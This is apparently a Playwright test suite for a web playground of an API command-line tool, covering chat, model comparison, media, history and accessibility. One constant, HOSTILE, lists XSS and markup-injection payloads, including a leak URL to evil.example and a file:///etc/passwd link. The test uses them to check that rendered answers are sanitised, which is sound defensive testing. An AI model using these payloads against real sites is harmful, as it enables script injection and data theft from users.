"""The page in a real browser: what a user does, sees, hears and must never get.

A browser takes seconds and each child of the page a third of one, so that a test is a journey
of several steps through one page.
"""

from __future__ import annotations

import io
import json
import re
import time
import wave
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from apiyi_cli.playground.policy import PAGE_COMMANDS
from apiyi_cli.sandbox.endpoints.videos import make_movie
from apiyi_cli.sandbox.server import Gateway
from tests.conftest import Program
from tests.playground.conftest import Serve
from tests.playground.tab import BROWSER_FLAGS, CHROMIUM, PHONE, Tab, api
from tests.playground.test_runs import HISTORY
from tests.test_readme import picture

pytestmark = [
    pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed"),
    pytest.mark.off_schema,
]
HOSTILE = """<script>window.hit=1</script><img src=x onerror="window.hit=2">
<iframe src="https://evil.example/"></iframe><svg onload="window.hit=3"></svg>
<form action="https://evil.example/"><button>Pay</button></form><style>*{display:none}</style>

![seen](https://evil.example/leak.png?k=secret) ![seen](//evil.example/y.png)
![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+) ![one][r]
[click](javascript:window.hit=4) [file](file:///etc/passwd) [code](vbscript:x) [own](/api/history)
[data](data:text/html,<script>1</script>) <javascript:window.hit=10>
[tab](java\tscript:window.hit=9) [entity](java&#115;cript:window.hit=12)
<a href="https://evil.example" onclick="window.hit=5" target=_self>link</a> [ok](https://fine.example/)

[r]: https://evil.example/ref.png
<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">
<input name=attributes autofocus onfocus="window.hit=6"><link rel=stylesheet href=https://evil.example/x.css>
<math><mtext><table><mglyph><style><img src=x onerror="window.hit=7">
<video src="https://evil.example/v" autoplay></video> <object data="https://evil.example/o"></object>
`</code><script>window.hit=8</script>` <div id="app" class="top" style="position:fixed">over</div>

```"><img src=https://evil.example/fence onerror=window.hit=11>
<b style="background:url(https://evil.example/css)">x</b> @import url(https://evil.example/y.css);
```
"""
ALLOWED_ATTRIBUTES = {"href", "target", "rel", "class", "type", "tabindex", "role", "aria-label"}
FORBIDDEN = "img, script, iframe, svg, form, style, base, meta, link, video, object, math, div#app"


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with api.sync_playwright() as started:
        running = started.chromium.launch(executable_path=CHROMIUM, args=BROWSER_FLAGS)
        yield running
        running.close()


@pytest.fixture
def tab(browser: Any, serve: Serve) -> Iterator[Tab]:
    opened = Tab(browser, serve().url)
    yield opened
    opened.check()


def test_questions_are_asked_stopped_compared_and_looked_into(tab: Tab) -> None:
    _ask_and_stop(tab)
    _see_request_code_raw_and_log(tab)
    _read_a_hostile_answer(tab)
    _compare(tab)


def _ask_and_stop(tab: Tab) -> None:
    page = tab.page
    code = "```python\nprint(1)\n```"
    tab.send(f"# Title\n\n**bold** text\n\n{code}\n\n| a |\n|--:|\n| 1 |\n\n3. three\n\n- [x] did")
    status = tab.done()
    assert "exit 0 ok" in status and "200" in status and "ms first" in status
    assert page.inner_text(".prose strong") == "bold"
    assert page.inner_text(".prose .code-frame code") == "print(1)\n"
    aligned = "() => getComputedStyle(document.querySelector('.prose td')).textAlign"
    assert page.evaluate(aligned).endswith("right")
    assert page.locator(".prose ol").get_attribute("start") == "3"
    assert page.locator(".prose input[type=checkbox]:checked[aria-label=done]").count() == 1
    assert page.locator(".prose").get_attribute("aria-live") == "polite"
    line = page.inner_text(".line code")
    assert line.startswith("$ apiyi chat -- '# Title")
    page.keyboard.press("Control+Shift+C")
    assert page.evaluate("() => navigator.clipboard.readText()") == line.removeprefix("$ ")
    tab.send("wait", "fault:stall@6")
    page.locator(".prose p").wait_for()
    page.keyboard.press("Escape")
    page.locator(".outcome").wait_for()
    assert "Stopped" in page.inner_text(".outcome") and "You said" in page.inner_text(".prose")
    page.locator(".entry", has_text="may be billed").wait_for()
    tab.send("nobody", "fault:429*9")
    tab.done()
    shown = page.inner_text(".outcome")
    assert "Exit 5: temporary" in shown and "Run it again? free" in shown and "try:" in shown
    assert page.locator(".entry").count() == 3
    page.click("[data-section=Sampling] summary")
    page.fill("#f-temperature", "0.2")
    tab.send("no", "gpt-5.4-mini")
    page.click(".outcome button:has-text('Clear --temperature')")
    assert page.input_value("#f-temperature") == ""


def _see_request_code_raw_and_log(tab: Tab) -> None:
    page = tab.page
    page.fill("#prompt", "hello")
    page.fill("#f-model", "gpt-4o")
    page.fill("#f-temperature", "0.5")
    page.click("#tab-Request")
    page.click(".tree button.value.number:has-text('0.5')")
    page.fill(".edit", "0.7")
    page.keyboard.press("Enter")
    page.locator(".line code", has_text="--option=temperature=0.7").wait_for()
    page.locator(".tree button.value.number", has_text="0.7").wait_for()
    assert "Bearer ***" in page.inner_text(".headers")
    page.click("#tab-Code")
    page.select_option("#language", "go")
    page.locator(".program", has_text="package main").wait_for()
    with page.expect_download() as download:
        page.click(".code-view button:has-text('Download')")
    assert download.value.suggested_filename == "request.go"
    assert Path(download.value.path()).read_text("utf-8") == page.inner_text(".program code")
    tab.send()
    tab.done()
    assert "temperature=0.7" in page.inner_text(".prose")
    page.click("#tab-Raw")
    assert page.locator(".events li").count() > 4 and " ms" in page.inner_text(".events")
    assert "content-type" in page.inner_text(".headers")
    page.click("button:has-text('Copy as fixture')")
    fixture = json.loads(page.evaluate("() => navigator.clipboard.readText()"))
    assert fixture["status"] == 200 and fixture["headers"]["content-type"] == "text/event-stream"
    assert len(fixture["events"]) == page.locator(".events li").count()
    page.click("#tab-Log")
    assert "--ndjson --verbose" in page.inner_text(".log pre")
    page.fill("#f-temperature", "9")
    page.locator(".problem", has_text="9.0 is not between 0 and 2").wait_for()
    page.fill("#f-temperature", "")
    page.locator("[data-option=option] .clear").first.click()
    page.click("#tab-Answer")


def _read_a_hostile_answer(tab: Tab) -> None:
    page = tab.page
    tab.send(HOSTILE)
    assert "exit 0" in tab.done()
    page.wait_for_timeout(200)
    assert page.evaluate("() => window.hit") is None
    assert page.locator(f".prose :is({FORBIDDEN})").count() == 0
    assert page.locator("#app").count() == 1
    links = page.eval_on_selector_all(".prose a", "all => all.map(a => a.getAttribute('href'))")
    assert all(link is None or link.startswith("https://") for link in links)
    assert "https://fine.example/" in links
    names = "all => [...new Set(all.flatMap(node => node.getAttributeNames()))].sort()"
    assert set(page.eval_on_selector_all(".prose *", names)) <= ALLOWED_ATTRIBUTES
    assert set(page.eval_on_selector_all(".prose a[target]", "all => all.map(a => a.rel)")) == {
        "noopener noreferrer"
    }
    assert "<script>window.hit=1</script>" in page.inner_text(".prose")
    assert page.url.rstrip("/").endswith(page.evaluate("() => location.host"))


def _compare(tab: Tab) -> None:
    """Compare four models; the first is that of the profile."""
    page = tab.page
    page.fill("#prompt", "same words")
    page.fill("#f-model", "")
    for at, model in enumerate(("gpt-4.1", "gpt-5.4-mini", "fault:401")):
        page.click("text=+ compare")
        page.fill(f"#f-model-{at}", model)
    assert page.locator("text=+ compare").count() == 0
    tab.send()
    page.locator(".difference").wait_for()
    columns = page.locator(".column")
    assert columns.count() == 4
    for at, model in enumerate(("the profile", "gpt-4.1", "gpt-5.4-mini")):
        text = columns.nth(at).inner_text()
        assert model in text and "You said: same words" in text and "ms first" in text
    assert "Exit 4: auth" in columns.nth(3).inner_text()
    assert "You said: same words" in page.inner_text(".difference")
    page.set_viewport_size(PHONE)
    assert page.evaluate("() => document.documentElement.scrollWidth - innerWidth") <= 0


def test_files_go_up_and_pictures_sound_films_and_figures_come_back(
    tab: Tab, started: Program, gateway: Gateway, tmp_path: Path
) -> None:
    _send_a_picture_and_draw(tab, tmp_path)
    _film_stop_and_resume(tab, gateway)
    _speak_and_transcribe(tab, started)
    _embed_and_rank(tab)


def _send_a_picture_and_draw(tab: Tab, folder: Path) -> None:
    page = tab.page
    (folder / "photo.png").write_bytes(picture())
    page.click("text=+ attach")
    page.locator("[data-option=attach] input[type=file]").set_input_files(folder / "photo.png")
    page.locator(".chips", has_text="photo.png").wait_for()
    tab.send("What is it?")
    assert "exit 0" in tab.done()
    assert "--attach=photo.png" in page.inner_text(".line code")
    tab.choose("image")
    tab.send("a boat")
    page.locator(".made img").wait_for()
    tab.done()
    page.wait_for_function("() => document.querySelector('.made img').naturalWidth > 0")
    # The answer to the other command is still there.
    tab.choose("chat")
    assert "What is it?" in page.inner_text(".prose")


def _film_stop_and_resume(tab: Tab, gateway: Gateway) -> None:
    page = tab.page
    tab.choose("video")
    page.click("[data-section=Video] summary")
    page.fill("#f-poll", "20")
    tab.send("a cat surfs")
    assert "takes minutes" in page.inner_text(".waiting")
    page.click("#tab-Log")
    page.locator(".events", has_text="content-length").wait_for()
    page.click("#tab-Answer")
    # A question can be asked while the film is waited for.
    tab.choose("chat")
    assert page.locator(".group button", has_text="video").locator(".going").count() == 1
    tab.send("meanwhile")
    assert "exit 0" in tab.done()
    tab.choose("video")
    page.keyboard.press("Escape")
    page.locator(".outcome", has_text="goes on without us").wait_for()
    page.click(".outcome button:has-text('Resume the video')")
    page.locator(".made video").wait_for()
    assert "exit 0" in tab.done()
    film = "document.querySelector('.made video')"
    page.wait_for_function(f"() => {film}.readyState > 0 && {film}.videoWidth > 0")
    page.evaluate(f"() => {{ {film}.currentTime = 1.5; }}")
    page.wait_for_function(f"() => !{film}.seeking && {film}.currentTime === 1.5")
    with page.expect_download() as download:
        page.click(".made a[download]")
    assert Path(download.value.path()).read_bytes() == make_movie("a cat surfs")
    sent = [row for row in gateway.ledger if row.method == "POST" and "video" in row.path]
    assert len(sent) == 1


def _speak_and_transcribe(tab: Tab, started: Program) -> None:
    page = tab.page
    tab.choose("speak")
    tab.send("good morning")
    page.locator(".made audio").wait_for()
    tab.done()
    page.wait_for_function("() => document.querySelector('.made audio').duration > 0")
    tab.page.click(".group button:has-text('transcribe')")
    sound = io.BytesIO()
    with wave.open(sound, "wb") as out:
        out.setparams((1, 2, 8000, 0, "NONE", ""))
        out.writeframes(bytes(2 * 8000 * 6))
    for name in ("one.wav", "two.wav"):
        (started.work / name).write_bytes(sound.getvalue())
    page.locator(".drop input[type=file]").set_input_files(
        [started.work / "one.wav", started.work / "two.wav"]
    )
    page.locator(".chips", has_text="two.wav").wait_for()
    page.click("[data-section=Answer] summary")
    page.fill("#f-format", "srt")
    tab.send()
    assert "exit 0" in tab.done()
    parts = page.locator(".recording")
    assert parts.count() == 2 and "two.wav" in parts.nth(1).inner_text()
    page.wait_for_function("() => document.querySelectorAll('audio')[1]?.duration > 5")
    parts.nth(1).locator(".cues button").nth(1).click()
    page.wait_for_function("() => document.querySelectorAll('audio')[1].currentTime >= 3")
    with page.expect_download() as download:
        page.click(".answer button:has-text('Download')")
    assert download.value.suggested_filename == "one.srt"
    printed = started("transcribe one.wav two.wav --format srt").text
    assert Path(download.value.path()).read_text("utf-8").split() == printed.split()
    page.fill("#f-format", "verbose_json")
    tab.send()
    tab.done()
    assert page.locator(".tree .key", has_text="segments").count() == 2
    page.locator(".entry-text", has_text="one.wav, two.wav").first.wait_for()


def _embed_and_rank(tab: Tab) -> None:
    page = tab.page
    tab.choose("embed")
    page.fill("#prompt", "")
    page.fill("#stdin", "cat\ndog")
    page.locator("[data-option=lines] input").nth(1).check()
    tab.send()
    page.locator(".spark").nth(1).wait_for()
    assert "exit 0" in tab.done()
    assert page.locator(".vectors tbody tr").count() == 2
    tab.choose("rank")
    page.fill("#prompt", "which pet barks")
    page.fill("#stdin", "cat\ndog")
    tab.send(model="bge-reranker-v2-m3")
    page.locator(".scores li").nth(1).wait_for()


def test_nothing_is_lost_in_the_history_by_a_reload_or_in_another_tab(
    browser: Any, serve: Serve, started: Program
) -> None:
    path = started.home / HISTORY
    path.parent.mkdir(parents=True, mode=0o700)
    old = {"at": 1.0, "command": "chat", "model": "gpt-4o", "exit": 0, "text": "x" * 3000}
    lines = (json.dumps({"id": f"{n:016x}", "prompt": f"old {n}", **old}) for n in range(3000))
    path.write_text("".join(f"{line}\n" for line in lines))
    tab = Tab(browser, serve().url)
    _scroll_and_search(tab)
    _reload_in_mid_answer(tab)
    _use_two_tabs(tab)
    _open_run_again_export_and_delete(tab)
    tab.check()
    assert tab.questions == 1


def _scroll_and_search(tab: Tab) -> None:
    page = tab.page
    page.locator(".entry").nth(99).wait_for()
    assert page.locator(".entry").count() == 100
    assert "Older (2900)" in (page.text_content(".entries") or "")
    page.evaluate(
        "() => { const list = document.querySelector('.entries'); list.scrollTop = 1e6; }"
    )
    page.locator(".entry").nth(199).wait_for()
    start = time.monotonic()
    page.fill("input[type=search]", "old 1234")
    page.locator(".entries .entry:only-child").first.wait_for()
    page.wait_for_function("() => document.querySelectorAll('.entry').length === 1")
    assert time.monotonic() - start < 5
    page.fill("input[type=search]", "")
    page.locator(".entry").nth(99).wait_for()


def _reload_in_mid_answer(tab: Tab) -> None:
    page = tab.page
    page.click("[data-section=Sampling] summary")
    page.fill("#f-temperature", "0.3")
    tab.send("remember me", "fault:stall@6")
    page.locator(".prose p").wait_for()
    page.wait_for_timeout(300)
    page.reload()
    page.locator("#prompt").wait_for()
    assert page.input_value("#prompt") == "remember me"
    assert page.input_value("#f-temperature") == "0.3" and page.title().startswith("chat")
    first = page.locator(".entry").first
    page.locator(".entry", has_text="may be billed").wait_for()
    first.click()
    page.locator("dialog", has_text="it may have been billed").wait_for()
    assert "[sandbox] You said" in page.inner_text(".entry-answer")
    page.keyboard.press("Escape")
    page.fill("#f-model", "")
    page.fill("#f-temperature", "")


def _use_two_tabs(tab: Tab) -> None:
    page = tab.page
    tab.send("the first tab", "fault:stall@6")
    page.locator(".prose p").wait_for()
    other = tab.open(f"http://{tab.host}/")
    assert other.input_value("#prompt") == ""
    other.fill("#prompt", "the second tab")
    other.keyboard.press("Control+Enter")
    other.locator(".prose", has_text="You said: the second tab").wait_for()
    other.locator(".entry", has_text="the second tab").wait_for()
    page.keyboard.press("Escape")
    # Both hear of each other's entries without a click.
    other.locator(".entry", has_text="the first tab").wait_for()
    page.locator(".entry", has_text="the second tab").wait_for()
    other.close()
    page.fill("#f-model", "")


def _open_run_again_export_and_delete(tab: Tab) -> None:
    page = tab.page
    page.fill("#prompt", "")
    entry = page.locator(".entry", has_text="the second tab")
    entry.click()
    page.click("dialog button:text-is('Open')")
    assert page.input_value("#prompt") == "the second tab"
    entry.click()
    page.click("dialog button:has-text('Run again')")
    page.locator("dialog", has_text="Run it again?").wait_for()
    page.click("dialog button:text-is('Run again')")
    entry.nth(1).wait_for()
    with page.expect_download() as download:
        entry.first.click()
        page.click("dialog button:text-is('Shell script')")
    text = Path(download.value.path()).read_text("utf-8")
    assert "apiyi chat -- 'the second tab'" in text
    page.click("dialog button:text-is('Delete')")
    entry.nth(1).wait_for(state="detached")
    page.click(".history-head button")
    page.click("dialog button:text-is('Clear')")
    page.locator(".history", has_text="nothing yet").wait_for()


def test_it_has_every_option_by_keyboard_in_two_languages_for_every_eye(tab: Tab) -> None:
    _find_every_option(tab)
    tab.choose("chat")
    _work_by_keyboard_alone(tab)
    _look_for_faults_of_access(tab)


def _find_every_option(tab: Tab) -> None:
    page = tab.page
    commands = page.evaluate("() => fetch('/api/schema').then(r => r.json())")["commands"]
    assert len(commands) == len(PAGE_COMMANDS)
    for command in commands:
        page.click(f".group button:text-is('{command['name']}')")
        page.locator(".form-head h2", has_text=command["name"]).wait_for()
        for button in page.locator(".beside button").all():
            button.click()
        names = "all => all.map(node => node.dataset.option)"
        fields = set(page.eval_on_selector_all("[data-option]", names))
        allowed = {item["name"] for part in command["sections"] for item in part["options"]}
        assert fields == allowed, command["name"]


def _work_by_keyboard_alone(tab: Tab) -> None:
    page = tab.page
    page.keyboard.press("Control+k")
    page.keyboard.type("temperature")
    page.locator("dialog [role=option]", has_text="--temperature").wait_for()
    page.keyboard.press("Enter")
    page.locator("#f-temperature:focus, [aria-label='--temperature']:focus").wait_for()
    page.locator("#f-model").focus()
    page.keyboard.type("gpt-4.1-m")
    page.locator("#f-model-list [role=option]", has_text="gpt-4.1-mini").wait_for()
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Enter")
    assert page.input_value("#f-model") == "gpt-4.1-mini"
    page.keyboard.press("Control+k")
    page.keyboard.type("command respond")
    page.keyboard.press("Enter")
    page.locator(".form-head h2", has_text="respond").wait_for()
    for _ in range(60):
        if page.evaluate("() => document.activeElement.id") == "prompt":
            break
        page.keyboard.press("Tab")
    page.keyboard.type("hello **there**\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [ ] todo")
    page.keyboard.press("Control+Enter")
    assert "exit 0" in tab.done()
    page.locator("#tab-Answer").focus()
    page.keyboard.press("ArrowRight")
    assert page.evaluate("() => document.activeElement.id") == "tab-Request"
    assert page.locator("#tab-Request").get_attribute("aria-selected") == "true"
    page.keyboard.press("?")
    page.locator("dialog", has_text="These keys").wait_for()
    page.keyboard.press("Escape")
    page.locator("dialog").wait_for(state="detached")
    outline = "() => getComputedStyle(document.activeElement).outlineStyle"
    page.keyboard.press("Tab")
    assert page.evaluate(outline) != "none"


def _look_for_faults_of_access(tab: Tab) -> None:
    """Run all rules of axe on the page, and on what changed after that; then the colours."""
    page = tab.page
    page.click("#tab-Answer")
    for summary in reversed(page.locator(".section:not([open]) > summary").all()):
        summary.click()
    assert tab.find_problems() == []
    for summary in page.locator(".section[open] > summary").all()[:1:-1]:
        summary.click()
    page.emulate_media(color_scheme="dark")
    assert tab.find_problems(rules="color-contrast") == []
    page.click("button:text-is('中文')")
    page.locator("button:has-text('发送')").wait_for()
    assert page.evaluate("() => document.documentElement.lang") == "zh-CN"
    assert "采样" in page.inner_text(".form") and "历史" in page.inner_text(".sidebar")
    page.fill("#f-temperature", "9")
    page.locator(".problem", has_text="9.0 不在 0 到 2 之间").wait_for()
    assert tab.find_problems(".actions") == []
    for name in ("Request", "Raw", "Code", "Log"):
        page.click(f"#tab-{name}")
        assert tab.find_problems(".results") == [], name
    page.keyboard.press("Control+k")
    page.locator("dialog").wait_for()
    assert tab.find_problems("dialog") == []
    page.keyboard.press("Escape")
    wide = "() => document.documentElement.scrollWidth - innerWidth"
    for size in ({"width": 1024, "height": 768}, PHONE):
        page.set_viewport_size(size)
        assert page.evaluate(wide) <= 0
    assert tab.find_problems() == []
    page.click(".views button:nth-child(3)")
    assert page.locator(".results").is_visible() and not page.locator(".form").is_visible()


def test_without_a_key_it_says_where_keys_are_kept_and_has_no_field_for_one(
    browser: Any, serve: Serve
) -> None:
    server = serve({"APIYI_API_KEY": None, "APIYI_BASE_URL": None})
    opened = Tab(browser, server.url)
    page = opened.page
    page.locator(".top", has_text="no key: apiyi auth login").wait_for()
    opened.send("hello")
    opened.done()
    shown = page.inner_text(".outcome")
    assert "Exit 4: auth" in shown and "apiyi auth login" in shown
    assert page.locator("input[type=password]").count() == 0
    labels = " ".join(page.locator("label").all_inner_texts()).lower()
    assert not re.search(r"\b(key|token|secret)\b", labels)
    page.select_option("#profile", "sandbox")
    page.locator(".top", has_text="offline sandbox").wait_for()
    opened.send("hello")
    page.locator(".prose", has_text="[sandbox] You said: hello").wait_for()
    opened.done()
    server.end()
    page.keyboard.press("Control+Enter")
    page.locator(".lost", has_text="The playground has ended").wait_for()
    opened.check()
